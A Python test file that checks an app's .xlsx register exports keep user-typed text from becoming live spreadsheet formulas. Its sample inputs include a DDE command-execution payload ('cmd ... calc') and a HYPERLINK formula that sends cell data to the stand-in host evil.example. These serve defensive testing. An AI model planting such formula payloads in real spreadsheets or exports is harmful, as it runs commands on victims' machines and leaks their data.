"""What users typed never becomes a live formula in the .xlsx registers."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.reports.conftest import TODAY
from tests.reports.test_reply_letters import YEAR, _submit
from tests.tasks.conftest import tasks  # noqa: F401 - the fixture
from tracker.db import transaction

REPLY = "=cmd|' /C calc'!A0"
ISSUER = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("kind", ["register", "followup", "summary"])
def test_typed_text_that_looks_like_a_formula_stays_text(web, cast, letter, tasks, sessions, kind):
    from tracker.intake.models import Letter
    from tracker.reports.spreadsheet import build_xlsx

    with transaction(sessions) as s:
        s.get(Letter, letter.letter).issuer = ISSUER
        s.get(Letter, letter.letter).subject = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert _submit(web, cast, tasks, letter.finance_task, reply_number=REPLY,
                   reply_date="18/09/2019").status_code == 302
    with sessions() as s:
        data = build_xlsx(s, kind, YEAR, TODAY)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    risky = [cell for cell in texts if cell.value.startswith(("=", "+", "-", "@"))]
    assert all(cell.quotePrefix for cell in risky)
    if kind != "summary":
        values = {cell.value for cell in texts}
        assert ISSUER in values or any(ISSUER in v for v in values)  # shown as typed, not altered
    if kind == "followup":
        assert REPLY in {cell.value for cell in texts}
